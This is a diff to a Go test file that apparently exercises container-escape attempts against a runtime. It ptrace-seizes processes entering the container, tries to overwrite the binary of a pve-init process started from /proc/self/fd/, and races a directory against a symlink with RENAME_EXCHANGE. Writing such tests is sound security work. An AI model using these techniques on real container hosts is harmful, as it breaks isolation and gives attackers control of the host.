@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strconv"
 	"strings"
 	"testing"
@@ -65,6 +66,7 @@ const stopScan = "/stop-scan"
 // scan tries to get hold of processes on their way into the container, until
 // stopScan is there. It says how many it has met and all that it got.
 func scan() error {
+	runtime.LockOSThread() // a tracer is a thread
 	met := map[int]bool{}
 	got := map[string]bool{}
 	coming := func(line string) bool {
@@ -110,13 +112,26 @@ func scan() error {
 					return nil
 				})
 			}
-			try("list fd", func() error { _, err := os.ReadDir(dir + "fd"); return err })
-			try("ptrace", func() error {
-				err := unix.PtraceSeize(pid)
-				if err == nil {
-					err = unix.PtraceDetach(pid)
+			// Their numbers are no secret to root.
+			try("readlink of a descriptor", func() error {
+				list, err := os.ReadDir(dir + "fd")
+				for _, fd := range list {
+					if _, err = os.Readlink(dir + "fd/" + fd.Name()); err == nil {
+						return nil
+					}
 				}
-				return err
+				return errors.Join(err, errors.New("none"))
+			})
+			try("ptrace", func() error {
+				if err := unix.PtraceSeize(pid); err != nil {
+					return err
+				}
+				// Let it go again: the end of what is traced is told to the tracer first.
+				if err := unix.PtraceInterrupt(pid); err == nil {
+					_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
+				}
+				_ = unix.PtraceDetach(pid)
+				return nil
 			})
 		}
 		if _, err := os.Stat(stopScan); err == nil {
@@ -130,12 +145,12 @@ func scan() error {
 	return nil
 }
 
-// overwrite tries to write into the program of the process that runs "mount /fifo".
+// overwrite tries to write into the program of a pve-init that waits for its start.
 func overwrite() error {
 	var pid int
 	for end := time.Now().Add(time.Minute); pid == 0; time.Sleep(10 * time.Millisecond) {
 		for p, line := range processes() {
-			if strings.Contains(line, "mount\x00/fifo\x00") {
+			if strings.HasPrefix(line, "/proc/self/fd/") && strings.Contains(line, "\x00init\x00") {
 				pid = p
 			}
 		}
@@ -172,7 +187,8 @@ func overwrite() error {
 
 // swap exchanges, without end, a directory and a symlink of a shared volume.
 func swap() error {
-	for {
+	// Without a pause every lookup on the machine would have to be repeated.
+	for ; ; time.Sleep(20 * time.Microsecond) {
 		for _, name := range []string{"/vol/dir", "/vol/deep"} {
 			if err := unix.Renameat2(unix.AT_FDCWD, name, unix.AT_FDCWD, name+"-link", unix.RENAME_EXCHANGE); err != nil {
 				return err
